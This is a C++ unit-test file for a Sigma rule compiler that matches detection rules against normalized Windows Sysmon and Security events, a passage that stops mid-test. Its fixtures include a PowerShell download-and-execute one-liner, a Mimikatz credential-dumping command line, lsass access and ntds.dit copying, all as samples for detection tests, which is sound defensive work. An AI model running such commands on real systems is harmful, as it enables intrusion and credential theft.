// Tests of CompiledRuleSet: every MatchOp, each logsource family over rows made by the real
// normalizer, keywords, negation, unmappable reasons, and prefilter == naive evaluation.

#include <gtest/gtest.h>

#include <algorithm>
#include <map>
#include <random>
#include <string>
#include <utility>
#include <vector>

#include "vigil/detect/match/compiled.h"
#include "vigil/detect/match/internal/compiled_types.h"
#include "vigil/ingest/ingest_report.h"
#include "vigil/ingest/normalize/normalizer.h"

namespace vigil::detect::match {
namespace {

using sigma::MatchOp;

sigma::FieldTest FT(std::string field, MatchOp op, std::vector<std::string> values,
                    bool cased = false) {
  sigma::FieldTest test;
  test.field = std::move(field);
  test.op = op;
  test.case_sensitive = cased;
  for (auto& v : values) {
    sigma::Value value;
    value.alternatives.push_back(v);
    test.values.push_back(std::move(value));
  }
  return test;
}

sigma::FieldTest Num(std::string field, MatchOp op, double number) {
  sigma::FieldTest test;
  test.field = std::move(field);
  test.op = op;
  sigma::Value value;
  value.alternatives.push_back(fmt::format("{}", number));
  value.number = number;
  test.values.push_back(std::move(value));
  return test;
}

// One rule: `selection` = AND of tests, condition `selection`.
sigma::Rule MakeRule(std::string category, std::string service,
                     std::vector<sigma::FieldTest> tests) {
  sigma::Rule rule;
  rule.title = "test";
  rule.logsource.product = "windows";
  rule.logsource.category = std::move(category);
  rule.logsource.service = std::move(service);
  sigma::Search search;
  search.name = "selection";
  search.any_of.push_back(std::move(tests));
  rule.searches.push_back(std::move(search));
  rule.condition.kind = sigma::Condition::Kind::kSearch;
  rule.condition.search = 0;
  return rule;
}

ingest::WinEvent Event(std::string provider, std::string channel, int64_t id,
                       std::vector<std::pair<std::string, std::string>> data) {
  ingest::WinEvent event;
  event.provider = std::move(provider);
  event.channel = std::move(channel);
  event.computer = "WS01.contoso.local";
  event.event_id = id;
  event.record_id = 1000 + static_cast<uint64_t>(id);
  event.time_created = (19000LL * 86400 + 3 * 3600) * 10'000'000;  // 2022-01-08T03:00Z
  event.has_time_created = true;
  for (auto& [name, value] : data) {
    event.data.push_back({name, value});
  }
  return event;
}

ingest::WinEvent Sysmon(int64_t id, std::vector<std::pair<std::string, std::string>> data) {
  return Event("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", id,
               std::move(data));
}
ingest::WinEvent Security(int64_t id, std::vector<std::pair<std::string, std::string>> data) {
  return Event("Microsoft-Windows-Security-Auditing", "Security", id, std::move(data));
}

// Normalized batches by table name.
std::map<std::string, schema::TableBatch> Normalize(const std::vector<ingest::WinEvent>& events) {
  ingest::Normalizer normalizer(schema::Catalog::Default());
  ingest::IngestReport report;
  for (const auto& event : events) {
    normalizer.Add(event, report);
  }
  std::map<std::string, schema::TableBatch> out;
  normalizer.Drain([&](schema::TableBatch& batch) {
    auto [it, added] = out.try_emplace(batch.schema().name(), batch.schema());
    it->second.Append(batch);
  });
  return out;
}

// Rule indexes that hit any row of any batch.
std::vector<uint32_t> Hits(const sigma::RuleSet& rules, const std::vector<ingest::WinEvent>& events,
                           bool prefilter = true) {
  BuildOptions options;
  options.use_prefilter = prefilter;
  auto set = CompiledRuleSet::Build(rules, schema::Catalog::Default(), options);
  EXPECT_TRUE(set.ok()) << set.error().ToString();
  for (const auto& u : (*set)->unmapped()) {
    ADD_FAILURE() << "unmapped rule " << u.rule << ": " << u.reason;
  }
  MatchScratch scratch;
  std::vector<RuleHit> hits;
  for (auto& [name, batch] : Normalize(events)) {
    (*set)->Match(batch, scratch, hits);
  }
  std::vector<uint32_t> out;
  for (const auto& hit : hits) {
    out.push_back(hit.rule);
  }
  std::sort(out.begin(), out.end());
  out.erase(std::unique(out.begin(), out.end()), out.end());
  return out;
}

bool Fires(sigma::Rule rule, const ingest::WinEvent& event) {
  sigma::RuleSet rules;
  rules.rules.push_back(std::move(rule));
  return !Hits(rules, {event}).empty();
}

ingest::WinEvent ProcessCreate() {
  return Sysmon(
      1, {{"RuleName", "-"},
          {"ProcessId", "8752"},
          {"Image", "C:\\Windows\\System32\\cmd.exe"},
          {"OriginalFileName", "Cmd.Exe"},
          {"CommandLine", "C:\\WINDOWS\\system32\\cmd.exe /d /s /c node setup_bun.js"},
          {"User", "swachchhanda\\xodih"},
          {"LogonId", "0x3b5cb2"},
          {"IntegrityLevel", "High"},
          {"Hashes",
           "SHA1=F2EC25166F2DC893BB6FD48A0B31BC60BEB7A13A,MD5=45B78461F85D75C970567895A3A2DAE5,"
           "SHA256=9EFDAAAD31A2EFCE37258DABA04906691C0DA76B82E2B0FB36003727DE4F91F7,IMPHASH="
           "4E4BD045D7AA40BF798F4D85F28D0A0F"},
          {"ParentProcessId", "8056"},
          {"ParentImage", "C:\\Program Files\\nodejs\\node.exe"},
          {"ParentCommandLine", "node.exe install"},
          {"ParentUser", "swachchhanda\\xodih"}});
}

TEST(MatchOpsTest, EqualsIsCaseInsensitiveUnlessCased) {
  EXPECT_TRUE(Fires(MakeRule("process_creation", "",
                             {FT("Image", MatchOp::kEquals, {"c:\\windows\\system32\\CMD.exe"})}),
                    ProcessCreate()));
  EXPECT_FALSE(
      Fires(MakeRule("process_creation", "",
                     {FT("Image", MatchOp::kEquals, {"c:\\windows\\system32\\CMD.exe"}, true)}),
            ProcessCreate()));
  EXPECT_FALSE(Fires(MakeRule("process_creation", "", {FT("Image", MatchOp::kEquals, {"cmd.exe"})}),
                     ProcessCreate()));
}

TEST(MatchOpsTest, ContainsStartsEndsGlobRegex) {
  auto e = ProcessCreate();
  EXPECT_TRUE(Fires(
      MakeRule("process_creation", "", {FT("CommandLine", MatchOp::kContains, {"SETUP_BUN"})}), e));
  EXPECT_TRUE(
      Fires(MakeRule("process_creation", "", {FT("Image", MatchOp::kEndsWith, {"\\cmd.exe"})}), e));
  EXPECT_FALSE(
      Fires(MakeRule("process_creation", "", {FT("Image", MatchOp::kEndsWith, {"\\cmd"})}), e));
  EXPECT_TRUE(Fires(
      MakeRule("process_creation", "", {FT("Image", MatchOp::kStartsWith, {"C:\\Windows\\"})}), e));
  EXPECT_FALSE(Fires(
      MakeRule("process_creation", "", {FT("Image", MatchOp::kStartsWith, {"\\Windows\\"})}), e));
  EXPECT_TRUE(Fires(
      MakeRule("process_creation", "", {FT("CommandLine", MatchOp::kGlob, {"*cmd.exe /? /s*"})}),
      e));
  EXPECT_FALSE(Fires(
      MakeRule("process_creation", "", {FT("CommandLine", MatchOp::kGlob, {"*cmd.exe /?? /s*"})}),
      e));
  EXPECT_TRUE(
      Fires(MakeRule("process_creation", "",
                     {FT("CommandLine", MatchOp::kRegex, {"(?i)NODE\\s+setup_[a-z]+\\.js$"})}),
            e));
  EXPECT_FALSE(Fires(
      MakeRule("process_creation", "", {FT("CommandLine", MatchOp::kRegex, {"NODE\\s+setup"})}),
      e));
}

TEST(MatchOpsTest, NumbersNullExistsFieldRef) {
  auto e = ProcessCreate();
  EXPECT_TRUE(
      Fires(MakeRule("process_creation", "", {Num("ProcessId", MatchOp::kEquals, 8752)}), e));
  EXPECT_TRUE(
      Fires(MakeRule("process_creation", "",
                     {Num("ProcessId", MatchOp::kGt, 8000), Num("ProcessId", MatchOp::kLte, 8752)}),
            e));
  EXPECT_FALSE(Fires(MakeRule("process_creation", "", {Num("ProcessId", MatchOp::kLt, 8752)}), e));
  EXPECT_TRUE(
      Fires(MakeRule("process_creation", "", {FT("LogonId", MatchOp::kEquals, {"0x3b5cb2"})}), e));
  EXPECT_TRUE(
      Fires(MakeRule("process_creation", "", {FT("CurrentDirectory", MatchOp::kNull, {})}), e));
  EXPECT_FALSE(Fires(MakeRule("process_creation", "", {FT("Image", MatchOp::kNull, {})}), e));
  auto exists = Num("ParentImage", MatchOp::kExists, 1);
  EXPECT_TRUE(Fires(MakeRule("process_creation", "", {exists}), e));
  auto not_exists = Num("Nope", MatchOp::kExists, 0);
  EXPECT_TRUE(Fires(MakeRule("process_creation", "", {not_exists}), e));
  auto ref = FT("User", MatchOp::kFieldRef, {"ParentUser"});
  EXPECT_TRUE(Fires(MakeRule("process_creation", "", {ref}), e));
  auto ref2 = FT("Image", MatchOp::kFieldRef, {"ParentImage"});
  EXPECT_FALSE(Fires(MakeRule("process_creation", "", {ref2}), e));
}

TEST(MatchOpsTest, CidrAndTimePart) {
  auto net = Sysmon(3, {{"Image", "C:\\x\\a.exe"},
                        {"Protocol", "tcp"},
                        {"Initiated", "true"},
                        {"SourceIp", "10.0.0.5"},
                        {"SourcePort", "5000"},
                        {"DestinationIp", "2001:db8::1"},
                        {"DestinationPort", "443"}});
  EXPECT_TRUE(Fires(
      MakeRule("network_connection", "", {FT("SourceIp", MatchOp::kCidr, {"10.0.0.0/8"})}), net));
  EXPECT_FALSE(Fires(
      MakeRule("network_connection", "", {FT("SourceIp", MatchOp::kCidr, {"192.168.0.0/16"})}),
      net));
  EXPECT_TRUE(Fires(
      MakeRule("network_connection", "", {FT("DestinationIp", MatchOp::kCidr, {"2001:db8::/32"})}),
      net));
  EXPECT_TRUE(Fires(MakeRule("network_connection", "",
                             {FT("Initiated", MatchOp::kEquals, {"true"}),
                              Num("DestinationPort", MatchOp::kEquals, 443),
                              Num("Protocol", MatchOp::kEquals, 6)}),
                    net));
  auto hour = Num("UtcTime", MatchOp::kEquals, 3);
  hour.time_part = sigma::TimePart::kHour;
  EXPECT_TRUE(Fires(MakeRule("network_connection", "", {hour}), net));
  hour.values[0].number = 4;
  EXPECT_FALSE(Fires(MakeRule("network_connection", "", {hour}), net));
}

TEST(MatchOpsTest, NegateMatchAllAndKeywords) {
  auto e = ProcessCreate();
  auto all = FT("CommandLine", MatchOp::kContains, {"node", "/d"});
  all.match_all = true;
  EXPECT_TRUE(Fires(MakeRule("process_creation", "", {all}), e));
  all.values.push_back(sigma::Value{{"absent"}, std::nullopt});
  EXPECT_FALSE(Fires(MakeRule("process_creation", "", {all}), e));
  auto neq = FT("IntegrityLevel", MatchOp::kEquals, {"Low", "Medium"});
  neq.negate = true;
  EXPECT_TRUE(Fires(MakeRule("process_creation", "", {neq}), e));
  neq.values.push_back(sigma::Value{{"high"}, std::nullopt});
  EXPECT_FALSE(Fires(MakeRule("process_creation", "", {neq}), e));
  // Keywords: column text and AdditionalFields members.
  EXPECT_TRUE(
      Fires(MakeRule("process_creation", "", {FT("", MatchOp::kContains, {"SETUP_bun"})}), e));
  EXPECT_TRUE(Fires(MakeRule("process_creation", "", {FT("", MatchOp::kContains, {"5770385F"})}),
                    Sysmon(1, {{"Image", "a.exe"}, {"ProcessGuid", "{5770385F-1}"}})));
  EXPECT_FALSE(Fires(
      MakeRule("process_creation", "", {FT("", MatchOp::kContains, {"nothing-like-this"})}), e));
  // Condition: selection and not filter.
  auto rule = MakeRule("process_creation", "", {FT("Image", MatchOp::kEndsWith, {"\\cmd.exe"})});
  sigma::Search filter;
  filter.any_of.push_back({FT("ParentImage", MatchOp::kEndsWith, {"\\node.exe"})});
  rule.searches.push_back(filter);
  sigma::Condition sel = rule.condition, flt, notf;
  flt.kind = sigma::Condition::Kind::kSearch;
  flt.search = 1;
  notf.kind = sigma::Condition::Kind::kNot;
  notf.children.push_back(flt);
  rule.condition = sigma::Condition{sigma::Condition::Kind::kAnd, -1, {sel, notf}};
  EXPECT_FALSE(Fires(rule, e));
}

TEST(MatchLogSourceTest, ProcessCreationSysmonAndSecurity4688) {
  auto rule = MakeRule("process_creation", "",
                       {FT("Image", MatchOp::kEndsWith, {"\\whoami.exe"}),
                        FT("ParentImage", MatchOp::kEndsWith, {"\\cmd.exe"})});
  auto sysmon = Sysmon(1, {{"Image", "C:\\Windows\\System32\\whoami.exe"},
                           {"ParentImage", "C:\\Windows\\System32\\cmd.exe"}});
  auto security = Security(4688, {{"SubjectUserSid", "S-1-5-18"},
                                  {"SubjectUserName", "WS01$"},
                                  {"SubjectDomainName", "CONTOSO"},
                                  {"SubjectLogonId", "0x3e7"},
                                  {"NewProcessId", "0x1a2c"},
                                  {"NewProcessName", "C:\\Windows\\System32\\whoami.exe"},
                                  {"TokenElevationType", "%%1936"},
                                  {"ProcessId", "0x10"},
                                  {"CommandLine", "whoami /all"},
                                  {"ParentProcessName", "C:\\Windows\\System32\\cmd.exe"},
                                  {"MandatoryLabel", "S-1-16-16384"}});
  EXPECT_TRUE(Fires(rule, sysmon));
  EXPECT_TRUE(Fires(rule, security));
  EXPECT_TRUE(Fires(MakeRule("process_creation", "",
                             {FT("NewProcessName", MatchOp::kEndsWith, {"\\whoami.exe"}),
                              FT("SubjectUserName", MatchOp::kEquals, {"ws01$"}),
                              FT("SubjectLogonId", MatchOp::kEquals, {"0x3e7"}),
                              FT("MandatoryLabel", MatchOp::kEquals, {"S-1-16-16384"})}),
                    security));
  EXPECT_FALSE(Fires(rule, Sysmon(11, {{"Image", "C:\\Windows\\System32\\whoami.exe"},
                                       {"TargetFilename", "C:\\x"}})));
}

TEST(MatchLogSourceTest, NetworkFileRegistryLogonPowerShellProcessAccess) {
  EXPECT_TRUE(Fires(
      MakeRule("file_event", "",
               {FT("TargetFilename", MatchOp::kEndsWith, {"\\evil.dll"}),
                FT("Image", MatchOp::kEndsWith, {"\\word.exe"})}),
      Sysmon(11, {{"Image", "C:\\o\\WORD.EXE"}, {"TargetFilename", "C:\\Users\\a\\evil.dll"}})));
  auto reg =
      Sysmon(13, {{"EventType", "SetValue"},
                  {"Image", "C:\\Windows\\reg.exe"},
                  {"TargetObject",
                   "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fAllowToGetHelp"},
                  {"Details", "DWORD (0x00000001)"}});
  EXPECT_TRUE(Fires(MakeRule("registry_set", "",
                             {FT("TargetObject", MatchOp::kStartsWith,
                                 {"HKLM\\System\\CurrentControlSet\\Control\\"}),
                              FT("TargetObject", MatchOp::kEndsWith, {"\\fAllowToGetHelp"}),
                              FT("Details", MatchOp::kEquals, {"DWORD (0x00000001)"})}),
                    reg));
  EXPECT_TRUE(Fires(MakeRule("registry_set", "",
                             {FT("TargetObject", MatchOp::kContains,
                                 {"\\CurrentControlSet\\Control\\Terminal Server"})}),
                    reg));
  EXPECT_FALSE(Fires(
      MakeRule("registry_add", "", {FT("TargetObject", MatchOp::kContains, {"Terminal Server"})}),
      reg));
  auto logon = Security(4624, {{"TargetUserSid", "S-1-5-21-1-2-3-500"},
                               {"TargetUserName", "admin"},
                               {"TargetDomainName", "CONTOSO"},
                               {"TargetLogonId", "0x1234"},
                               {"LogonType", "3"},
                               {"LogonProcessName", "NtLmSsp "},
                               {"AuthenticationPackageName", "NTLM"},
                               {"WorkstationName", "KALI"},
                               {"IpAddress", "203.0.113.7"},
                               {"IpPort", "0"}});
  auto logon_rule =
      MakeRule("", "security",
               {Num("EventID", MatchOp::kEquals, 4624), Num("LogonType", MatchOp::kEquals, 3),
                FT("LogonProcessName", MatchOp::kEquals, {"NtLmSsp"}),
                FT("AuthenticationPackageName", MatchOp::kEquals, {"NTLM"})});
  logon_rule.searches[0].any_of[0][2].op = MatchOp::kStartsWith;
  EXPECT_TRUE(Fires(logon_rule, logon));
  EXPECT_FALSE(Fires(
      MakeRule("", "security",
               {Num("EventID", MatchOp::kEquals, 4624), Num("LogonType", MatchOp::kEquals, 10)}),
      logon));
  EXPECT_FALSE(Fires(MakeRule("", "system", {Num("EventID", MatchOp::kEquals, 4624)}), logon));
  auto ps =
      Event("Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational", 4104,
            {{"MessageNumber", "1"},
             {"ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://x')"}});
  EXPECT_TRUE(Fires(
      MakeRule("ps_script", "", {FT("ScriptBlockText", MatchOp::kContains, {"downloadstring("})}),
      ps));
  EXPECT_TRUE(Fires(
      MakeRule("", "powershell", {FT("ScriptBlockText", MatchOp::kContains, {"new-object"})}), ps));
  auto access =
      Sysmon(10, {{"SourceProcessId", "296"},
                  {"SourceImage", "C:\\Users\\Public\\x.exe"},
                  {"TargetProcessId", "860"},
                  {"TargetImage", "C:\\WINDOWS\\system32\\lsass.exe"},
                  {"GrantedAccess", "0x1fffff"},
                  {"CallTrace", "C:\\WINDOWS\\SYSTEM32\\ntdll.dll+16bcc4|UNKNOWN(0000)"}});
  EXPECT_TRUE(Fires(MakeRule("process_access", "",
                             {FT("TargetImage", MatchOp::kEndsWith, {"\\lsass.exe"}),
                              FT("GrantedAccess", MatchOp::kEquals, {"0x1FFFFF"}),
                              FT("CallTrace", MatchOp::kContains, {"UNKNOWN("})}),
                    access));
  auto net = Sysmon(3, {{"Image", "C:\\x\\rundll32.exe"},
                        {"Initiated", "true"},
                        {"DestinationIp", "8.8.8.8"},
                        {"DestinationPort", "53"},
                        {"DestinationHostname", "dns.google"}});
  EXPECT_TRUE(Fires(MakeRule("network_connection", "",
                             {FT("Image", MatchOp::kEndsWith, {"\\rundll32.exe"}),
                              FT("DestinationHostname", MatchOp::kEndsWith, {".google"})}),
                    net));
}

TEST(MatchUnmappedTest, ReasonsNameTheProblem) {
  sigma::RuleSet rules;
  rules.rules.push_back(MakeRule("process_creation", "", {FT("Image", MatchOp::kEndsWith, {"x"})}));
  auto linux_rule = MakeRule("process_creation", "", {FT("Image", MatchOp::kEndsWith, {"x"})});
  linux_rule.logsource.product = "linux";
  rules.rules.push_back(linux_rule);
  rules.rules.push_back(MakeRule("no_such_category", "", {FT("Image", MatchOp::kEndsWith, {"x"})}));
  rules.rules.push_back(MakeRule("dns_query", "", {FT("SourceIp", MatchOp::kEndsWith, {"x"})}));
  rules.rules.push_back(
      MakeRule("process_creation", "", {FT("CommandLine", MatchOp::kRegex, {"(unclosed"})}));
  auto set = CompiledRuleSet::Build(rules, schema::Catalog::Default(), {});
  ASSERT_TRUE(set.ok());
  const auto& unmapped = (*set)->unmapped();
  ASSERT_EQ(unmapped.size(), 4u);
  EXPECT_EQ(unmapped[0].rule, 1u);
  EXPECT_NE(unmapped[0].reason.find("product 'linux'"), std::string::npos) << unmapped[0].reason;
  EXPECT_NE(unmapped[1].reason.find("category 'no_such_category'"), std::string::npos);
  EXPECT_NE(unmapped[2].reason.find("field 'SourceIp'"), std::string::npos) << unmapped[2].reason;
  EXPECT_NE(unmapped[3].reason.find("regex"), std::string::npos) << unmapped[3].reason;
  EXPECT_EQ((*set)->compiled_rules(), 1u);
}

// Bug: `product: windows` alone (keyword rules such as Mimikatz keywords) was unmapped; it
// covers every Windows event table.
TEST(MatchLogSourceTest, ProductOnlyCoversEveryWindowsTable) {
  sigma::FieldTest keyword = FT("", MatchOp::kEquals, {"sekurlsa::"});
  auto rule = MakeRule("", "", {keyword});
  auto process =
      Sysmon(1, {{"Image", "C:\\x\\m.exe"}, {"CommandLine", "m.exe sekurlsa::logonpasswords"}});
  auto file = Sysmon(11, {{"Image", "C:\\x\\m.exe"}, {"TargetFilename", "C:\\sekurlsa::x.txt"}});
  EXPECT_TRUE(Fires(rule, process));
  EXPECT_TRUE(Fires(rule, file));
  EXPECT_FALSE(Fires(rule, Sysmon(1, {{"Image", "C:\\x\\m.exe"}, {"CommandLine", "m.exe"}})));
  sigma::RuleSet rules;
  auto empty = MakeRule("", "", {keyword});
  empty.logsource.product.clear();
  rules.rules.push_back(empty);
  auto set = CompiledRuleSet::Build(rules, schema::Catalog::Default(), {});
  ASSERT_TRUE(set.ok());
  ASSERT_EQ((*set)->unmapped().size(), 1u);
  EXPECT_NE((*set)->unmapped()[0].reason.find("neither product"), std::string::npos);
}

// Bug: SigmaHQ still writes `service: microsoft-servicebus-client` (the older name of thor.yml's
// servicebus-client); it was unmapped.
TEST(MatchLogSourceTest, OldServiceBusServiceNameMapsToItsChannels) {
  auto event = Event("Microsoft-ServiceBus-Client", "Microsoft-ServiceBus-Client/Operational",
                     40300, {{"Message", "HybridConnection sb://x.servicebus.windows.net"}});
  EXPECT_TRUE(Fires(
      MakeRule("", "microsoft-servicebus-client",
               {Num("EventID", MatchOp::kEquals, 40300), FT("", MatchOp::kEquals, {"sb://"})}),
      event));
  EXPECT_FALSE(
      Fires(MakeRule("", "microsoft-servicebus-client", {Num("EventID", MatchOp::kEquals, 40300)}),
            Sysmon(1, {{"Image", "C:\\x.exe"}})));
}

// Bug: fields only process creation events carry (ParentImage, ParentCommandLine, ...) made
// file/network rules unmappable; outside process creation they only exist as an enrichment,
// which the normalizer keeps in AdditionalFields.
TEST(MatchLogSourceTest, ProcessCreationFieldsOnOtherEventsReadAdditionalFields) {
  auto rule = MakeRule("file_event", "",
                       {FT("TargetFilename", MatchOp::kEndsWith, {"\\ntds.dit"}),
                        FT("ParentImage", MatchOp::kEndsWith, {"\\cmd.exe"}),
                        FT("ParentCommandLine", MatchOp::kContains, {"copy"})});
  auto enriched = Sysmon(11, {{"Image", "C:\\Windows\\esentutl.exe"},
                              {"TargetFilename", "C:\\temp\\ntds.dit"},
                              {"ParentImage", "C:\\Windows\\System32\\cmd.exe"},
                              {"ParentCommandLine", "cmd /c copy"}});
  auto plain = Sysmon(
      11, {{"Image", "C:\\Windows\\esentutl.exe"}, {"TargetFilename", "C:\\temp\\ntds.dit"}});
  EXPECT_TRUE(Fires(rule, enriched));
  EXPECT_FALSE(Fires(rule, plain));
  sigma::FieldTest no_parent;
  no_parent.field = "ParentImage";
  no_parent.op = MatchOp::kNull;
  EXPECT_TRUE(Fires(MakeRule("network_connection", "",
                             {FT("Image", MatchOp::kEndsWith, {"\\python.exe"}), no_parent}),
                    Sysmon(3, {{"Image", "C:\\p\\python.exe"}, {"Initiated", "true"}})));
}

TEST(MatchReadFieldTest, ReadsThroughMapping) {
  sigma::RuleSet rules;
  rules.rules.push_back(
      MakeRule("process_creation", "", {FT("Image", MatchOp::kEndsWith, {"cmd.exe"})}));
  auto set = CompiledRuleSet::Build(rules, schema::Catalog::Default(), {});
  ASSERT_TRUE(set.ok());
  auto batches = Normalize({ProcessCreate()});
  const auto& batch = batches.at("DeviceProcessEvents");
  EXPECT_EQ((*set)->ReadField(batch, 0, 0, "User"), "swachchhanda\\xodih");
  EXPECT_EQ((*set)->ReadField(batch, 0, 0, "ParentImage"), "C:\\Program Files\\nodejs\\node.exe");
  auto hashes = (*set)->ReadField(batch, 0, 0, "Hashes");
  ASSERT_TRUE(hashes.has_value());
  EXPECT_NE(hashes->find("MD5=45B78461F85D75C970567895A3A2DAE5"), std::string::npos) << *hashes;
  EXPECT_NE(hashes->find("IMPHASH=4E4BD045D7AA40BF798F4D85F28D0A0F"), std::string::npos);
  EXPECT_EQ((*set)->ReadField(batch, 0, 0, "EventID"), "1");
  EXPECT_EQ((*set)->ReadField(batch, 0, 0, "NoSuchField"), std::nullopt);
}

TEST(MatchPrefilterTest, RegexLiteral) {
  auto lit = [](std::string_view pattern, bool want_caseless = false) {
    bool caseless = !want_caseless;
    std::string out = internal::RegexLiteral(pattern, caseless);
    EXPECT_EQ(caseless, want_caseless) << pattern;
    return out;
  };
  EXPECT_EQ(lit(R"(\\cmd\.exe$)"), "\\cmd.exe");
  EXPECT_EQ(lit(R"(abc.*defgh)"), "defgh");
  EXPECT_EQ(lit(R"((?i)PowerShell)", true), "power");  // 's' ends a run under (?i)
  EXPECT_EQ(lit(R"(ab?cdef)"), "cdef");                  // b is optional: a|cdef
  EXPECT_EQ(lit(R"(xyz+uvw)"), "xyz");                   // z+ ends the run
  EXPECT_EQ(lit(R"(x{0,3}abc[0-9]{2}defg)"), "defg");
  EXPECT_EQ(lit(R"(foo|barbaz)"), "");                   // top-level alternation
  EXPECT_EQ(lit(R"(a(?i)bcdef)"), "");                   // flags changed mid-pattern
  EXPECT_EQ(lit(R"(\x41bcd)"), "");
  EXPECT_EQ(lit(R"((foo|bar)-(baz)\d+qux)"), "qux");
  EXPECT_EQ(lit(R"([)\]]+abc)"), "abc");
}

// Keyword prefilter: literals in AdditionalFields members with JSON escapes (backslash, quote)
// and members written with \u escapes still find the row.
TEST(MatchPrefilterTest, KeywordsThroughAdditionalFieldsEscapes) {
  auto e = Sysmon(10, {{"SourceImage", "C:\\a.exe"},
                       {"TargetImage", "C:\\Windows\\System32\\lsass.exe"},
                       {"GrantedAccess", "0x1010"},
                       {"CallTrace", "C:\\x\\\"q\" \u00e9t\u00e9 sekurlsa::logonpasswords"}});
  for (std::string word : {"sekurlsa::", "x\\\"q\"", "\u00e9t\u00e9 sek", "0x1010",
                           "system32\\lsass"}) {
    EXPECT_TRUE(Fires(MakeRule("", "", {FT("", MatchOp::kContains, {word})}), e)) << word;
  }
  EXPECT_FALSE(Fires(MakeRule("", "", {FT("", MatchOp::kContains, {"mimikatz"})}), e));
}

// AdditionalFields written with \u and \/ escapes (another writer than the normalizer): the raw
// JSON text does not show the keyword, the escape atom must enable the rule.
TEST(MatchPrefilterTest, KeywordsThroughUnicodeEscapes) {
  const auto& catalog = schema::Catalog::Default();
  const schema::TableSchema* table = catalog.Find("DeviceEvents");
  ASSERT_NE(table, nullptr);
  schema::TableBatch batch(*table);
  const auto af = static_cast<size_t>(table->additional_fields_column());
  for (std::string json : {R"({"EventID":1,"Data":"sekurlsa\u003a\u003aminidump"})",
                           R"({"EventID":1,"Data":"c:\\a\/b\\x"})",
                           R"({"EventID":1,"Data":"c:\\users\\sekurlsa"})"}) {
    batch.BeginRow();
    batch.SetBytes(af, json);
  }
  sigma::RuleSet rules;
  rules.rules.push_back(MakeRule("", "", {FT("", MatchOp::kContains, {"sekurlsa::"})}));
  rules.rules.push_back(MakeRule("", "", {FT("", MatchOp::kContains, {"a/b\\"})}));
  auto set = CompiledRuleSet::Build(rules, catalog);
  ASSERT_TRUE(set.ok());
  MatchScratch scratch;
  std::vector<RuleHit> hits;
  (*set)->Match(batch, scratch, hits);
  ASSERT_EQ(hits.size(), 2u);
  EXPECT_EQ(hits[0].row, 0u);
  EXPECT_EQ(hits[0].rule, 0u);
  EXPECT_EQ(hits[1].row, 1u);
  EXPECT_EQ(hits[1].rule, 1u);
}

// Randomized rules and rows: the prefiltered Match gives exactly the naive hits.
TEST(MatchPropertyTest, PrefilterEqualsNaive) {
  std::mt19937 rng(1234);
  const std::vector<std::string> words = {"cmd",  "powershell",  "\\temp\\", "evil",
                                          ".exe", "c:\\windows", "rundll32", "x",
                                          "Node", "-enc",        "bun",
                                          "q\"t", "\xe2\x84\xaa",   "K",
                                          "42",   "7"};
  auto pick = [&] { return words[rng() % words.size()]; };
  std::vector<ingest::WinEvent> events;
  for (int i = 0; i < 3000; ++i) {
    std::string image = "C:\\Windows\\" + pick() + "\\" + pick() + pick();
    std::string cmd = pick() + " " + pick() + " " + pick();
    if (i % 3 == 0) {
      events.push_back(Sysmon(1, {{"Image", image},
                                  {"CommandLine", cmd},
                                  {"ParentImage", "C:\\" + pick()},
                                  {"ProcessId", std::to_string(rng() % 100)}}));
    } else if (i % 3 == 1) {
      events.push_back(Security(4688, {{"NewProcessName", image},
                                       {"CommandLine", cmd},
                                       {"ParentProcessName", "C:\\" + pick()}}));
    } else {
      events.push_back(Sysmon(11, {{"Image", image}, {"TargetFilename", "C:\\" + pick() + cmd}}));
    }
  }
  const std::vector<MatchOp> ops = {MatchOp::kEquals,   MatchOp::kContains, MatchOp::kStartsWith,
                                    MatchOp::kEndsWith, MatchOp::kGlob,     MatchOp::kRegex};
  // "" = keyword (every string of the row).
  const std::vector<std::string> fields = {"Image",          "CommandLine", "ParentImage",
                                           "TargetFilename", "ProcessId",   ""};
  sigma::RuleSet rules;
  for (int r = 0; r < 300; ++r) {
    std::vector<sigma::FieldTest> tests;
    const int n = 1 + static_cast<int>(rng() % 3);
    for (int t = 0; t < n; ++t) {
      MatchOp op = ops[rng() % ops.size()];
      std::string value = op == MatchOp::kGlob ? "*" + pick() + "*" + pick() + "*" : pick();
      std::string second = pick();
      if (op == MatchOp::kRegex) {
        value = (rng() % 2 == 0 ? "(?i)" : "") + RE2::QuoteMeta(pick()) + ".*" +
                RE2::QuoteMeta(pick()) + (rng() % 2 == 0 ? "s?k" : "");
        second = RE2::QuoteMeta(pick()) + "[a-z]+" + RE2::QuoteMeta(pick());
      }
      auto test = FT(fields[rng() % fields.size()], op, {value, second});
      test.negate = rng() % 7 == 0;
      test.match_all = rng() % 5 == 0;
      tests.push_back(test);
    }
    auto rule = MakeRule(r % 2 == 0 ? "process_creation" : "file_event", "", tests);
    if (r % 10 == 0) {
      rule.logsource.category.clear();
      rule.logsource.service = "sysmon";
    }
    if (r % 4 == 0) {  // add a negated filter search
      sigma::Search filter;
      filter.any_of.push_back({FT("CommandLine", MatchOp::kContains, {pick()})});
      rule.searches.push_back(filter);
      sigma::Condition sel = rule.condition, flt, notf;
      flt.kind = sigma::Condition::Kind::kSearch;
      flt.search = 1;
      notf.kind = sigma::Condition::Kind::kNot;
      notf.children.push_back(flt);
      rule.condition = sigma::Condition{sigma::Condition::Kind::kAnd, -1, {sel, notf}};
    }
    rules.rules.push_back(rule);
  }
  auto batches = Normalize(events);
  auto fast = CompiledRuleSet::Build(rules, schema::Catalog::Default(), {});
  BuildOptions naive_options;
  naive_options.use_prefilter = false;
  auto naive = CompiledRuleSet::Build(rules, schema::Catalog::Default(), naive_options);
  ASSERT_TRUE(fast.ok());
  ASSERT_TRUE(naive.ok());
  EXPECT_GT((*fast)->stats().prefiltered_rules, 100u);
  MatchScratch scratch;
  size_t total = 0;
  for (auto& [name, batch] : batches) {
    std::vector<RuleHit> a, b;
    (*fast)->Match(batch, scratch, a);
    (*naive)->Match(batch, scratch, b);
    auto key = [](const RuleHit& h) { return std::pair(h.row, h.rule); };
    auto less = [&](const RuleHit& x, const RuleHit& y) { return key(x) < key(y); };
    std::sort(a.begin(), a.end(), less);
    std::sort(b.begin(), b.end(), less);
    ASSERT_EQ(a.size(), b.size()) << name;
    for (size_t i = 0; i < a.size(); ++i) {
      ASSERT_EQ(key(a[i]), key(b[i])) << name;
    }
    total += a.size();
  }
